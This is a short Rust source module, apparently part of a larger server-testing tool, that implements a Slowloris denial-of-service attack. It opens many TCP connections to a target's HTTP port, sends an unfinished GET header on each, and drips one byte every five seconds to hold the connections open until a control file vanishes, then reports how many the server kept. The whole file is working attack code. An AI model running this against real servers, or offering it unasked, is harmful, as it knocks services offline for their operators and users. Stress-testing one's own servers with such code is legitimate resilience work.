// SPDX-License-Identifier: Apache-2.0
//! Requests of HTTP that never end (known as Slowloris): many connections, on each of which a byte comes now and then.

use std::error::Error;
use std::io::Write;
use std::net::{IpAddr, TcpStream};
use std::path::Path;
use std::thread;
use std::time::Duration;

use crate::http::PORT;

/// How long one connection waits for its next byte at least.
const PAUSE: Duration = Duration::from_secs(5);
const BEGINNING: &[u8] = b"GET / HTTP/1.1\r\nX-Slow: ";

/// Drips until a file is gone, which it makes when all connections are there. Says how many the server has kept until then.
pub fn run(address: IpAddr, connections: usize, file: &Path) -> Result<String, Box<dyn Error>> {
    let mut held = crate::open(address, PORT, connections)?;
    drip(&mut held, BEGINNING);
    crate::show(file, &format!("connections {}", held.len()))?;
    while file.exists() {
        drip(&mut held, b"x");
        thread::sleep(PAUSE);
    }
    Ok(format!("connections {connections} kept {}", held.len()))
}

/// Sends bytes on each connection, and leaves those that are over.
fn drip(held: &mut Vec<TcpStream>, bytes: &[u8]) {
    held.retain_mut(|stream| stream.write_all(bytes).is_ok());
}
